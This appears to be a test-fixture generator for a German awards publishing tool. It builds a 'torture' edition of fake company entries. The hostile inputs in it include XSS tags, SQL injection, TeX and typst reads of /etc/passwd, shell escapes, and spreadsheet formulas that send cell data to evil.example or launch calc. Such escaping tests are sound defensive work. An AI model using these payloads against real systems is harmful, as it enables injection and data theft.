// torture.mjs EDITION.json COUNT FOLDER: an edition of the worst companies, from the set-up of a sane one.
//
// Writes FOLDER/edition.json (for `lorbeer edition import`), entries.csv (for
// `lorbeer import --entries`), rest.tsv (for torture_home) and names.tsv: the
// code, the kind and the name of each company. The kinds go round.
import { readFileSync, writeFileSync } from 'node:fs'

const [, , from, count, folder] = process.argv
const kinds = ['short', 'long', 'nophoto', 'portrait', 'banner', 'empty', 'full', 'over', 'arabic', 'chinese',
  'cyrillic', 'typst', 'html', 'tex', 'sql', 'formula', 'withdrawn', 'tiny', 'glyphs', 'broken', 'three']
const hostile = {
  typst: '#read("/etc/passwd") $x^2$ @none <label> #{ panic("x") } `raw` *b* _i_ \\ ~ // no /* comment',
  html: '<script>alert(1)</script><img src=//evil.example/x onerror="alert(2)"> &amp; &#0; ]]> <!--',
  tex: '\\input{/etc/passwd} \\write18{id} {\\bf $$ %{ ^^M \\end{document} # & _ ~',
  sql: 'x\'); DROP TABLE entry; -- "; SELECT * FROM user; /*',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"hier")',
  glyphs: 'Zalgo h̷̢͚͑ė̸͖l̶̬̈ und ☃ ꙮ 𓀀 ' + 'Donaudampfschifffahrtselektrizitätenhauptbetriebswerk'.repeat(2),
}
const persons = {
  arabic: 'الدكتورة ليلى عبد الرحمن القحطاني', chinese: '欧阳娜娜 司马相如', cyrillic: 'Екатерина Щербакова-Ґалаґан',
  formula: '@SUM(1+1)*cmd|\' /C calc\'!A0', html: '"><svg onload=alert(3)>', typst: '#lorem(9)', tex: '\\ldots', sql: "O'Neil",
}
const sentence = 'Wer neu zu uns kommt, lernt in den ersten Wochen mit einer Patin den Betrieb, die Stadt und die Sprache kennen. '
// how long each language's text is: the test sees how full that makes a page
const letters = { empty: 0, full: 900, over: 1130, three: 2460, short: 40 }
const text = (length, tail = '') => sentence.repeat(40).slice(0, length).trim() + (length > 0 ? '.' : '') + tail
const long = (kind, i) => `Gesellschaft für die vollständige Erprobung außergewöhnlich langer Firmennamen in Thüringen mbH & Co. Kommanditgesellschaft N° ${i}`
  .padEnd(120, 'x').slice(0, 117) + String(i).padStart(3, '0')

function nameOf(kind, i) {
  if (kind === 'short') return 'Ö' + String(i).padStart(3, '0')
  if (kind === 'long') return long(kind, i)
  if (kind in hostile) return `${hostile[kind].slice(0, 60)} ${i}`
  return `${kind[0].toUpperCase()}${kind.slice(1)} & Söhne ${i}`
}

const edition = JSON.parse(readFileSync(from, 'utf8'))
for (const question of edition.sections.flatMap(s => s.questions)) {
  if (question.characters_max) question.characters_max = 6000
}
Object.assign(edition, { slug: 'torture', number: 77, title: { de: 'Härtefall 77', en: 'Hard Case 77' } })
const praxis = edition.prizes.find(p => !p.category)
praxis.winners_max = 3
edition.prizes.push({ ...praxis, code: 'leer', name: { de: 'Preis der leeren Hände', en: 'Empty-Handed Prize' }, withholdable: true })
writeFileSync(`${folder}/edition.json`, JSON.stringify(edition))

const categories = edition.categories.map(c => c.code)
const rows = [], rest = [], names = []
for (let i = 1; i <= Number(count); i++) {
  const kind = kinds[(i - 1) % kinds.length]
  const code = 'E' + String(i).padStart(2, '0')
  const size = letters[kind] ?? 700
  const evil = hostile[kind] ? '\n\n' + hostile[kind] : ''
  rows.push({
    code, organisation: nameOf(kind, i), category: categories[i % categories.length], state: 'admitted',
    consent_data: 'yes', consent_publication: 'yes', consent_images: 'yes', consent_persons: 'yes',
    seat: hostile[kind]?.slice(0, 40) ?? 'Ahrenfels', sector_de: 'Maschinenbau', sector_en: 'Engineering',
    founded: 1990, employees: 10 + i, international: i, website: 'https://firma.example/' + i,
    strategy_de: text(size, evil), strategy_en: text(size, evil),
    quote_de: 'Ein Satz ' + (hostile[kind] ?? 'wie jeder.'), quote_en: 'A sentence.',
    quote_author: persons[kind] ?? 'Kim Beispiel', quote_function: 'Leitung',
  })
  names.push([code, kind, nameOf(kind, i)])
  const photo = { nophoto: null, portrait: 'portrait', tiny: 'tiny' }
  const picture = kind in photo ? photo[kind] : `photo-${i}`
  const told = kind === 'tiny' ? ['', '', ''] : [`Foto: ${persons[kind] ?? 'Kim'}`, 'Zwei Menschen an einer Werkbank', 'Two people at a bench']
  if (picture) rest.push(['picture', code, 'photo', `${picture}.jpg`, ...told])
  if (i % 7) rest.push(['picture', code, 'logo', kind === 'banner' ? 'banner.png' : 'logo.png', '', 'Logo', 'Logo'])
  rest.push(['honour', code, i % 6 ? 'nominee' : 'winner', hostile[kind] ?? 'Weil es wirkt.', 'Because it works.'])
  if (kind === 'withdrawn') rest.push(['withdraw', code, 'publication'])
  if (kind === 'broken') rest.push(['break', code, 'photo'])
}
for (const at of [0, 3, 10]) rest.push(['prize', names[at][0], praxis.code, 'Gemeinsam mit anderen.', 'Together with others.'])
rest.push(['withhold', names[0][0], 'leer', 'Niemand hat überzeugt.', 'Nobody convinced us.'])
const cell = v => `"${String(v).replaceAll('"', '""')}"`
writeFileSync(`${folder}/entries.csv`, [Object.keys(rows[0]), ...rows.map(Object.values)].map(r => r.map(cell).join(';')).join('\r\n') + '\r\n')
const lines = list => list.map(l => l.map(v => String(v).replace(/[\t\n]/g, ' ')).join('\t') + '\n').join('')
writeFileSync(`${folder}/rest.tsv`, lines(rest))
writeFileSync(`${folder}/names.tsv`, lines(names))
